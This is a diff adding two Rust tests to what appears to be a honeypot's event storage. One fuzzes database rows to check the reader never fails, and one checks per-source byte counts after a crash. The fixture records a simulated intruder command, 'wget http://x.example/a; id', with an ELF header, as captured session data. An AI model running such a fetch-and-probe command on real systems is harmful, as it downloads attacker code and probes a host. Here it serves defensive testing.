@@ -326,6 +326,140 @@ fn one_writer_at_a_time_and_interrupted_sessions_are_closed() {
     assert_eq!(row.events, 4);
 }
 
+/// A damaged or hostile row costs itself, never the reader: every question gets an answer or an error.
+#[test]
+fn no_stored_row_breaks_the_reader() {
+    let dir = Dir::new("rows");
+    let mut w = writer(&dir.layout());
+    for n in 1..20 {
+        w.append(&visit(
+            n,
+            "192.0.2.1:5",
+            "wget http://x.example/a; id",
+            b"\x7fELF",
+        ))
+        .unwrap();
+    }
+    drop(w);
+    let db = rusqlite::Connection::open(dir.layout().database()).unwrap();
+    let reader = Reader::open(&dir.layout()).unwrap();
+    let mut state = 5u64;
+    let mut random = move |below: usize| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state >> 20) as usize % below
+    };
+    let columns = [
+        ("event", "kind"),
+        ("event", "fields"),
+        ("event", "time"),
+        ("event", "world"),
+        ("event", "session"),
+        ("event", "src_port"),
+        ("session", "uuid"),
+        ("session", "src_ip"),
+        ("session", "dst_port"),
+        ("session", "opened"),
+        ("session", "closed"),
+        ("session", "user"),
+        ("session", "bytes_out"),
+    ];
+    for round in 0..1500 {
+        let (table, column) = columns[random(columns.len())];
+        let value: Box<dyn rusqlite::ToSql> = match random(6) {
+            0 => Box::new(i64::MIN),
+            1 => Box::new(-1i64),
+            2 => Box::new(1e300),
+            3 => Box::new(vec![0xffu8, 0, 7]),
+            4 => Box::new("{\"line\":\"\u{1b}\",\"argv\":[[[[]]]],\"size\":-1}"),
+            _ => {
+                // A part of what is there.
+                let text: Option<String> = db
+                    .query_row(
+                        &format!(
+                            "SELECT CAST({column} AS TEXT) FROM {table} LIMIT 1 OFFSET {}",
+                            random(15)
+                        ),
+                        [],
+                        |r| r.get(0),
+                    )
+                    .unwrap_or_default();
+                let mut bytes = text.unwrap_or_default().into_bytes();
+                if !bytes.is_empty() {
+                    let at = random(bytes.len());
+                    bytes[at] = random(128) as u8;
+                    bytes.truncate(1 + random(bytes.len()));
+                }
+                Box::new(String::from_utf8_lossy(&bytes).into_owned())
+            }
+        };
+        // A row that the table itself refuses is no matter.
+        let _ = db.execute(
+            &format!("UPDATE OR IGNORE {table} SET {column} = ?1 WHERE rowid % 7 = ?2 OR rowid = ?2"),
+            rusqlite::params![value, random(9)],
+        );
+        if round % 10 == 0 {
+            let any = Filter::default();
+            let _ = reader.events(&any, 1000);
+            let _ = reader.sessions(&any, false, 1000);
+            let _ = (
+                reader.session_counts(),
+                reader.last_seq(),
+                reader.sources(&"192.0.2.0/24".parse().unwrap()),
+            );
+            let _ = reader.sessions_named("0");
+        }
+    }
+    drop(reader);
+    // The writer, too, starts on it or says why not.
+    if let Ok(mut w) = Writer::open(
+        &dir.layout(),
+        &"test".parse().unwrap(),
+        key(),
+        Durability::Process,
+    ) {
+        let _ = w.close_interrupted(Time(3));
+        let _ = w.sent_since(Time(0));
+        let _ = w.append(&visit(200, "192.0.2.9:5", "id", b""));
+    }
+}
+
+#[test]
+fn what_a_source_was_sent_today_is_known_after_a_crash() {
+    let dir = Dir::new("sent");
+    let mut w = writer(&dir.layout());
+    w.append(&visit(1, "192.0.2.1:5", "id", b"")).unwrap();
+    w.append(&visit(2, "192.0.2.1:5", "id", b"")).unwrap();
+    let whole: u64 = 2 * close().bytes_out;
+    let midnight = Time(0);
+    let of = |w: &Writer, ip: &str| w.sent_since(midnight).unwrap().get(&ip.parse().unwrap()).copied();
+    assert_eq!(of(&w, "192.0.2.1"), Some(whole));
+    // One that is cut off counts with what was recorded of it.
+    let cut: Vec<Item> = visit(3, "192.0.2.2:5", "id", b"")
+        .into_iter()
+        .filter(|i| !matches!(i, Item::Event(d) if matches!(d.kind, turncoat_event::Kind::SessionClose(_))))
+        .collect();
+    let shown: u64 = cut
+        .iter()
+        .filter_map(|i| match i {
+            Item::Frame(f) if f.direction == turncoat_event::Direction::Output => Some(f.bytes.len() as u64),
+            _ => None,
+        })
+        .sum();
+    assert!(shown > 0);
+    w.append(&cut).unwrap();
+    drop(w);
+    let mut w = writer(&dir.layout());
+    assert_eq!(of(&w, "192.0.2.2"), None);
+    w.close_interrupted(Time(2_000_000_000_000_000_000)).unwrap();
+    assert_eq!(of(&w, "192.0.2.2"), Some(shown));
+    assert!(
+        w.sent_since(Time(i64::MAX)).unwrap().is_empty(),
+        "yesterday's does not count"
+    );
+}
+
 #[test]
 fn forgetting_a_source_removes_it_from_everything_and_numbers_are_not_given_twice() {
     let dir = Dir::new("forget");
